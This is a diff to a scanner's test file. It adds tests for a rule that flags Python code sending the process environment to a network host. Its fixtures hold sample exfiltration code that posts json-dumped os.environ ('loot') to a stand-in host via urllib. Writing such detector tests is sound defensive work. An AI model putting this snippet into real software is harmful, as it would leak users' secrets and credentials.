@@ -1,4 +1,5 @@
 import { expect, test } from 'vitest';
+import credentialsToNetwork from '../../src/rules/credentials-to-network.js';
 import downloadThenRun from '../../src/rules/download-then-run.js';
 import { read } from './reading.js';
 
@@ -43,4 +44,28 @@ test.each([
   ['by a function that nobody calls', 'def listen():\n    c = mqtt.Client()\n    c.on_message = on_message\n', 'low'],
 ])('a function that a connection is given %s is called with what comes', async (_, text, severity) => {
   expect(await found(ON_MESSAGE + text)).toEqual([severity]);
+});
+
+const SEND = 'import json, os, urllib.request\nfrom helpers import pool, thing\ndef send(data=None):\n    urllib.request.urlopen("https://garden.example.invalid/", data or json.dumps(dict(os.environ)).encode())\nloot = json.dumps(dict(os.environ)).encode()\n';
+
+/** How grave it is that the environment is sent. */
+async function sent(text: string): Promise<readonly string[]> {
+  const { facts } = await read(text);
+  return facts === null ? [] : credentialsToNetwork.check(facts).map(({ severity }) => severity);
+}
+
+test.each([
+  ['what came from somewhere beside it', 'thing(send, loot)'],
+  ['after how long to wait', 'pool.after(5, send, loot)'],
+  ['by the name of what runs it', 'pool.submit(send)'],
+  ['by the name of what runs it, where nobody knows the object', 'pool[0]().start_soon(send)'],
+  ['as a target', 'thing(target=send, args=(loot,))'],
+  ['a method', 'class Post:\n    def send(self, data):\n        urllib.request.urlopen("https://garden.example.invalid/", data)\nthing(Post().send, loot)'],
+  ['a function of Python itself', 'thing(urllib.request.urlopen, "https://garden.example.invalid/", loot)'],
+])('a function that is handed to something unknown is called by it: %s', async (_, call) => {
+  expect(await sent(`${SEND}${call}\n`)).toContain('critical');
+});
+
+test.each(['thing(send, "json")', 'thing.register(send)', 'thing(callback=send)', 'isinstance(send, thing)', 'TABLE = {"send": send}'])('a function that is only kept is not called: %s', async (call) => {
+  expect(await sent(`${SEND.replace('loot = ', 'size = len')}${call}\n`)).not.toContain('critical');
 });
